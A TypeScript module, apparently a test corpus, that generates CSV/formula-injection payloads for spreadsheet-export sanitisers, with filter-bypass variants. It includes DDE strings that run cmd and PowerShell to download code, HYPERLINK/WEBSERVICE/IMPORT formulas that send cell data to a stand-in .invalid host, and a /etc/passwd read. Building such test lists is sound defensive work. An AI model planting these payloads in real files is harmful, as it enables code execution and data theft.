/**
 * 300 texts that some spreadsheet program has taken, or could take, for a formula. After OWASP "CSV Injection", ASVS
 * 1.2.10, the advisories on DDE in Excel and LibreOffice, and the ways in which a filter of first characters is
 * passed: what programs skip before a formula, other characters for its sign, and other separators than the file's.
 * Addresses end in .invalid, which leads nowhere.
 */

/** What is to be evaluated, without its sign. */
const bodies = [
  "1+1",
  "A1",
  "SUM(1+1)*2",
  "SUM(1+1)*cmd|' /C calc'!A0",
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget x.invalid/p)'!A1",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "2+5+cmd|' /C notepad'!_xlbgnm.A1",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'HYPERLINK("http://x.invalid/?leak="&A1,"Click for details")',
  'HYPERLINK(CONCATENATE("http://x.invalid/",A2,B2),"more")',
  'WEBSERVICE("http://x.invalid/"&A1)',
  'FILTERXML(WEBSERVICE("http://x.invalid/a.xml"),"//b")',
  'IMPORTXML(CONCAT("http://x.invalid/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  'IMPORTFEED(CONCAT("http://x.invalid/?v=",A2))',
  'IMPORTHTML("http://x.invalid/","table",1)',
  'IMPORTRANGE("https://x.invalid/sheet","A1:A9")',
  'IMPORTDATA("http://x.invalid/a.csv")',
  'IMAGE("https://x.invalid/p.png?x="&B1)',
  "'file:///etc/passwd'#$passwd.A1",
  'INDIRECT("A"&1)',
  'CELL("filename")',
  'INFO("directory")',
  'CALL("Kernel32","WinExec","JCJ","calc",0)',
  'EXEC("calc.exe")',
  'RTD("prog.id",,"x")',
  "LAMBDA(x,x+1)(1)",
  "NOW()",
  '"a"&"b"',
] as const;

const signs = ["=", "+", "-", "@"] as const;

/** What a program passes over on its way to the sign. */
const before: readonly (readonly [name: string, text: string])[] = [
  ["space", " "],
  ["spaces", "   "],
  ["tab", "\t"],
  ["two tabs", "\t\t"],
  ["carriage return", "\r"],
  ["line feed", "\n"],
  ["line break and space", "\r\n "],
  ["vertical tab", "\v"],
  ["form feed", "\f"],
  ["no-break space", "\u00a0"],
  ["ideographic space", "\u3000"],
  ["thin space", "\u2009"],
  ["line separator", "\u2028"],
  ["byte order mark", "\ufeff"],
  ["byte order mark and space", "\ufeff "],
  ["zero-width space", "\u200b"],
  ["zero-width joiner", "\u200d"],
  ["word joiner", "\u2060"],
  ["left-to-right mark", "\u200e"],
  ["right-to-left override", "\u202e"],
  ["soft hyphen", "\u00ad"],
  ["bell", "\u0007"],
  ["escape", "\u001b"],
  ["delete", "\u007f"],
  ["next line", "\u0085"],
  ["quote", '"'],
  ["two quotes", '""'],
  ["quote and space", '" '],
  ["space and quote", ' "'],
  ["an apostrophe of one's own", "'"],
  ["two apostrophes", "''"],
];

/** Signs that a program in another locale, or after normalising, reads as one of the four. */
const otherSigns = [
  "＝",
  "＋",
  "－",
  "＠",
  "−",
  "﹢",
  "﹣",
  "﹦",
  "==",
  "=-",
  "+-",
  "-+",
  "@=",
  "=@",
] as const;

/** A formula in the middle, at the beginning of a cell for whoever opens the file with another separator or per line. */
const inside = (body: string): string[] =>
  [";", "\t", "|", "\n", "\r\n", "\r"].flatMap((separator) => [
    `a${separator}${body}`,
    `a${separator} ${body}${separator}`,
    `a"${separator}${body}${separator}"`,
    `a${separator}"${body}"`,
    `${separator}${separator}${body}`,
    `'a${separator}'${body}`,
  ]);

/** Cells that break out of their quotes, end the row, or speak to the program that opens the file. */
const breakouts = [
  '",=1+1,"',
  '"\r\n=1+1,"',
  '"";=1+1;""',
  '";=1+1',
  '"\t=1+1\t"',
  '"|=1+1',
  'a","=1+1',
  'a"\n=1+1\n"',
  '"=1+1"',
  '="=1+1"',
  '="0123"',
  '=""',
  "sep=;",
  "sep=;\r\n=1+1",
  "sep=\t",
  "SEP=|",
  "{=1+1}",
  "=",
  "@",
  "--1",
  "+1",
  "-1e5",
  "-1,5",
  "-1;=1+1",
  "%0A=1+1",
  "\\t=1+1",
  "&#61;1+1",
  "-1-1;-1",
  "+49 30 1234567",
  "- a list item",
  "-",
  "=IF(A1;1;2)",
] as const;

const all = [
  ...bodies.flatMap((body) => signs.map((sign) => `${sign}${body}`)),
  ...before.flatMap(([, text]) => [`${text}=1+1`, `${text}@SUM(1+1)`]),
  ...otherSigns.flatMap((sign) => [`${sign}1+1`, `${sign}cmd|' /C calc'!A0`]),
  ...inside("=1+1"),
  ...inside("+cmd|' /C calc'!A0").slice(0, 24),
  ...breakouts,
];

/** Each once. */
export const payloads: readonly string[] = [...new Set(all)];
